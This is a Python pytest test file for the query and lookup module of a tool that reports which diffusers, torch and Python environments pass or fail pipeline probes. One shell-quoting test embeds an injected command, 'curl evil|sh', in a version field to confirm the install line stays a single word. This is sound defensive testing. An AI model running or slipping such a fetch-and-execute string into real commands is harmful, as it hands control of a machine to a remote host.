"""Lookup: a question means what it says, ranges say what was measured, and nothing is guessed."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.version import Version

from reports.answers import Answers, install_line
from reports.dataset import Column, DatasetModel, KeptEnvironment
from reports.evidence import Evidence
from reports.lookup import Answer, known_axes, known_packages, look_up
from reports.query import Query, QueryError, parse_query
from tests.unit.test_pages import results

AXES = {"pipeline": ["sd15", "sdxl", "any"], "load": ["pretrained", "any"], "verdict": ["pass", "orphan-meta", "bad"]}
PACKAGES = ["diffusers", "torch", "huggingface_hub"]
VERSIONS = [f"0.{minor}.0" for minor in range(30, 40)]
GOOD, BAD = ("pass", "good", ""), ("orphan-meta", "bad", "f")


def _environment(version: str) -> KeptEnvironment:
    chosen = {"torch": "2.13.0", "diffusers": version}
    return KeptEnvironment(
        id="e" + version,
        requested=chosen,
        exact={"python": "3.11", **chosen},
        backend="cpu",
        installed={**chosen, "torch": "2.13.0+cpu"},
        python="3.11.7",
        platform="linux",
        packages=[],
        controls=1,
        missed=[],
        drift="",
        proof="",
        fault="",
    )


def _dataset(verdicts: list[tuple[str, str, str]], **axes: str) -> DatasetModel:
    """One cell an environment, diffusers one minor newer each time."""
    probe = {"pipeline": "sd15", "checkpoint": "canonical", "load": "pretrained", "offload": "none"}
    probe |= {"lifecycle": "single", "dtype": "float32", "runner": "cpu", **axes}
    count = len(verdicts)
    columns: dict[str, Any] = {f"axes.{name}": [value] * count for name, value in probe.items()}
    columns |= {
        "subject": [str(number) for number in range(count)],
        "environment": ["e" + version for version in VERSIONS[:count]],
        "verdict": [verdict for verdict, _, _ in verdicts],
        "group": [group for _, group, _ in verdicts],
        "signature": [signature for _, _, signature in verdicts],
        "stage": ["load"] * count,
        "cause": ["because"] * count,
        "rebuilt": [None] * count,
        "emulated": [False] * count,
        "expected": [False] * count,
        "attempts": [1] * count,
    }
    return DatasetModel(
        schema_version=1,
        run=results("x").run,
        probe_version="3",
        environments=[_environment(version) for version in reversed(VERSIONS[:count])],
        columns={name: Column.of(values) for name, values in columns.items()},
    )


def _ask(dataset: DatasetModel, *terms: str) -> Answer:
    answers = Answers.from_json(json.dumps(Evidence([dataset]).answers().as_json()))
    return look_up(answers, parse_query(terms, known_axes(answers), known_packages(answers)))


def _newest(answer: Answer) -> str | None:
    return None if answer.newest_good is None else answer.answers.environments[answer.newest_good].id


def _install(answer: Answer) -> str:
    assert answer.newest_good is not None
    return install_line(answer.answers, answer.newest_good)


@given(st.lists(st.sampled_from([GOOD, BAD, ("load-error", "bad", "g")]), min_size=1, max_size=10))
def test_spans_are_the_measured_environments_in_order(verdicts: list[tuple[str, str, str]]) -> None:
    """Put together again they are every environment, oldest first; neighbours differ; no span hides another verdict."""
    dataset = _dataset(verdicts)
    (line,) = _ask(dataset, "pipeline=sd15").lines
    order = [environment for span in line.spans for environment in span.environments]
    assert order == ["e" + version for version in VERSIONS[: len(verdicts)]]
    told = [span.verdict for span in line.spans for _ in span.environments]
    assert told == [verdict for verdict, _, _ in verdicts]
    assert all(
        (one.as_json()["verdict"], one.as_json()["signature"]) != (two.as_json()["verdict"], two.as_json()["signature"])
        for one, two in zip(line.spans, line.spans[1:], strict=False)
    )


@given(st.lists(st.sampled_from([GOOD, BAD]), min_size=1, max_size=10))
def test_the_newest_good_is_the_newest_that_was_measured_good(verdicts: list[tuple[str, str, str]]) -> None:
    """Never an environment with a bad cell, never an older one than need be, none where none is good."""
    newest = _newest(_ask(_dataset(verdicts), "pipeline=sd15"))
    good = [version for version, verdict in zip(VERSIONS, verdicts, strict=False) if verdict is GOOD]
    assert newest == ("e" + good[-1] if good else None)


def test_a_range_never_jumps_over_what_is_bad() -> None:
    """Asked for what passes only: the bad one in between ends the range all the same."""
    (line,) = _ask(_dataset([GOOD, GOOD, BAD, GOOD]), "verdict=pass").lines
    assert [span.versions["diffusers"] for span in line.spans] == [("0.30.0", "0.31.0"), ("0.33.0", "0.33.0")]


@given(
    st.lists(
        st.tuples(st.integers(0, 3), st.integers(0, 3), st.sampled_from([GOOD, BAD])),
        min_size=1,
        max_size=10,
        unique_by=lambda row: row[:2],
    )
)
def test_a_range_holds_nothing_else(rows: list[tuple[int, int, tuple[str, str, str]]]) -> None:
    """No environment with another verdict has all its versions within a range, whatever the versions are."""
    dataset = _dataset([verdict for _, _, verdict in rows])
    environments = []
    for entry, (diffusers, torch, _) in zip(reversed(dataset.environments), rows, strict=True):
        installed = {"diffusers": f"0.{diffusers}.0", "torch": f"2.{torch}.0"}
        environments.append(entry.model_copy(update={"installed": installed}))
    (line,) = _ask(dataset.model_copy(update={"environments": environments}), "pipeline=sd15").lines
    told = [identifier for span in line.spans for identifier in span.environments]
    assert sorted(told) == sorted(entry.id for entry in environments)
    for span in line.spans:
        inside = {
            entry.id
            for entry in environments
            if all(
                Version(low) <= Version(entry.installed[name]) <= Version(high)
                for name, (low, high) in span.versions.items()
            )
        }
        verdicts = {entry.id: verdict[0] for entry, (_, _, verdict) in zip(environments, rows, strict=True)}
        assert {verdicts[identifier] for identifier in inside} == {span.verdict}


def test_a_pipeline_that_was_not_measured_there_is_not_good_there() -> None:
    """Named in the question, it must have passed in the environment itself."""
    answer = _ask(_dataset([GOOD, GOOD]), "pipeline=sd15,any")
    assert _newest(answer) == "e0.31.0"
    both = _dataset([GOOD, GOOD])
    columns = {**both.columns, "axes.pipeline": Column.of(["sd3", "sd15"])}
    assert _newest(_ask(both.model_copy(update={"columns": columns}), "pipeline=sd15,sd3")) is None


def test_environments_that_differ_in_python_only_are_told_apart() -> None:
    """Their ranges, their order and their words have the Python, too; nothing is said of it where it tells nothing."""
    dataset = _dataset([GOOD, BAD])
    same = {"diffusers": "0.30.0", "torch": "2.13.0"}
    environments = [
        entry.model_copy(update={"installed": same, "exact": {"python": python, **same}})
        for entry, python in zip(reversed(dataset.environments), ("3.9", "3.13"), strict=True)
    ]
    (line,) = _ask(dataset.model_copy(update={"environments": environments}), "pipeline=sd15").lines
    assert [(span.verdict, span.versions["python"]) for span in line.spans] == [
        ("pass", ("3.9", "3.9")),
        ("orphan-meta", ("3.13", "3.13")),
    ]
    assert "python" not in _ask(dataset, "pipeline=sd15").lines[0].spans[0].versions


def test_what_is_good_in_one_way_to_load_is_told() -> None:
    """Where the ways to load were left open and one of them fails, the newest good set of the others is said."""
    dataset = _dataset([GOOD, BAD])
    columns = {**dataset.columns, "axes.load": Column.of(["pretrained", "single_file"])}
    environment = [dataset.columns["environment"][0]] * 2
    columns["environment"] = Column.of(environment)
    answer = _ask(dataset.model_copy(update={"columns": columns}), "pipeline=sd15")
    assert answer.newest_good is None
    assert list(answer.good_by_load) == ["pretrained"]


def test_a_set_that_fails_in_another_life_says_so() -> None:
    """The newest good set is good for one image; the lifecycles in which it fails are named."""
    dataset = _dataset([GOOD, BAD])
    columns = {**dataset.columns, "axes.lifecycle": Column.of(["single", "move"])}
    columns["environment"] = Column.of([dataset.columns["environment"][0]] * 2)
    answer = _ask(dataset.model_copy(update={"columns": columns}), "pipeline=sd15")
    assert (_newest(answer), answer.bad_lifecycles) == ("e0.30.0", ("move",))


def test_lines_to_copy_are_words_for_a_shell() -> None:
    """Whatever a version holds, it stays one word."""
    dataset = _dataset([GOOD])
    evil = {"torch": "2.6.0; curl evil|sh #", "diffusers": "0.30.0"}
    environment = dataset.environments[0].model_copy(update={"installed": evil, "exact": evil})
    line = _install(_ask(dataset.model_copy(update={"environments": [environment]}), "pipeline=sd15"))
    assert shlex.split(line) == ["pip", "install", "torch==2.6.0; curl evil|sh #", "diffusers==0.30.0"]


def test_ranges_and_builds() -> None:
    """A range is over installed versions, and the build of a wheel does not matter to who asks."""
    dataset = _dataset([GOOD] * 10)
    assert sum(_ask(dataset, "diffusers>=0.31,<0.33").counts.values()) == 2
    assert sum(_ask(dataset, "torch=2.13.0", "diffusers=0.30.0,0.39.0").counts.values()) == 2
    assert sum(_ask(dataset, "torch=2.13.0+cpu").counts.values()) == 10
    assert _install(_ask(dataset, "pipeline=sd15")) == "pip install torch==2.13.0 diffusers==0.39.0"


def test_a_miss_says_what_is_near() -> None:
    """With one thing left open something was measured: which, and at what versions."""
    answer = _ask(_dataset([GOOD, BAD]), "torch=2.9.1", "pipeline=sd15")
    assert not answer.lines
    assert answer.near == ("with any torch: 2 cells; measured: 2.13.0",)
    far = _ask(_dataset([GOOD, BAD]), "torch=2.9.1", "diffusers=0.99")
    assert far.near == ("torch: measured: 2.13.0", "diffusers: measured: 0.30.0, 0.31.0")


def test_what_is_left_open_is_said() -> None:
    """A damaged file, a lifecycle and our own reconstructions are not meant unless they are asked for."""
    moved = _dataset([BAD], lifecycle="move")
    assert not _ask(moved, "pipeline=sd15").lines
    assert _ask(moved, "lifecycle=move").lines
    assert _ask(moved, "lifecycle=any").lines
    assert set(_ask(moved, "pipeline=sd15").assumed) == {"checkpoint", "lifecycle", "load"}


def test_verdicts_and_classes_can_be_asked_for() -> None:
    """`verdict=bad` and `verdict=orphan-meta` mean the same cells here."""
    dataset = _dataset([GOOD, BAD, BAD])
    for term in ("verdict=bad", "verdict=orphan-meta", "verdict!=pass", "verdict!=good"):
        assert dict(_ask(dataset, term).counts) == {"orphan-meta": 2}
    assert dict(_ask(dataset, "verdict!=bad").counts) == {"pass": 1}


def test_what_is_not_meant_is_left_out() -> None:
    """`!=` takes its values away and nothing else."""
    assert not _ask(_dataset([GOOD]), "pipeline!=sd15").lines
    assert not _ask(_dataset([GOOD], lifecycle="move"), "lifecycle!=move").lines


def test_a_package_has_one_name() -> None:
    """With a dash or an underscore, and the install line has what was chosen."""
    dataset = _dataset([GOOD] * 2)
    hub = {"huggingface_hub": "0.25.2"}
    environment = dataset.environments[0].model_copy(
        update={
            "exact": {**dataset.environments[0].exact, **hub},
            "installed": {**dataset.environments[0].installed, "huggingface-hub": "0.25.2"},
        }
    )
    named = dataset.model_copy(update={"environments": [environment, dataset.environments[1]]})
    for term in ("huggingface_hub=0.25.2", "huggingface-hub<0.26", "python=3.11"):
        assert _ask(named, term).lines
    assert _install(_ask(named, "pipeline=sd15")).endswith(" huggingface-hub==0.25.2")


def test_what_does_not_exist_is_answered_with_its_proof() -> None:
    """An environment that the resolver rules out was asked about: that is an answer."""
    dataset = _dataset([("unresolvable", "not applicable", "")])
    ruled_out = dataset.environments[0].model_copy(update={"installed": {}, "proof": "because"})
    answer = _ask(dataset.model_copy(update={"environments": [ruled_out]}), "diffusers=0.30.0")
    assert answer.proofs == ("because",)
    assert dict(answer.counts) == {"unresolvable": 1}


@pytest.mark.parametrize(
    ("term", "said"),
    [
        ("pipelin=sd15", "did you mean 'pipeline'"),
        ("pipeline=sd16", "did you mean 'sd15'"),
        ("pipeline>=sd15", "names, not numbers"),
        ("diffusers=new", "is no version or range"),
        ("torch=" + "1" * 5000, "is no version or range"),
        ("pipeline=SD15", "did you mean 'sd15'"),
        ("diffusers>=", "is no version or range"),
        ("sdxl", "is no term"),
        ("numpy=1", "nothing was measured about 'numpy'"),
    ],
)
def test_a_wrong_question_is_answered_in_words(term: str, said: str) -> None:
    """What was not understood, and what could have been meant."""
    with pytest.raises(QueryError, match=said):
        parse_query([term], AXES, PACKAGES)


def test_a_name_is_asked_about_once() -> None:
    """Two terms about one name would have to be joined somehow; they are refused with the way to say it."""
    with pytest.raises(QueryError, match="twice"):
        parse_query(["torch=1", "torch=2"], AXES, PACKAGES)


@given(
    st.lists(st.text(max_size=20) | st.sampled_from(["torch=", "pipeline=sd15", "verdict=bad", "diffusers>=0.3,<1"]))
)
def test_any_terms_are_a_question_or_an_error(terms: list[str]) -> None:
    """No text makes the parser raise anything else."""
    try:
        parsed = parse_query(terms, AXES, PACKAGES)
    except QueryError as error:
        assert str(error)
    else:
        assert isinstance(parsed, Query)
        assert json.dumps(sorted(parsed.about))
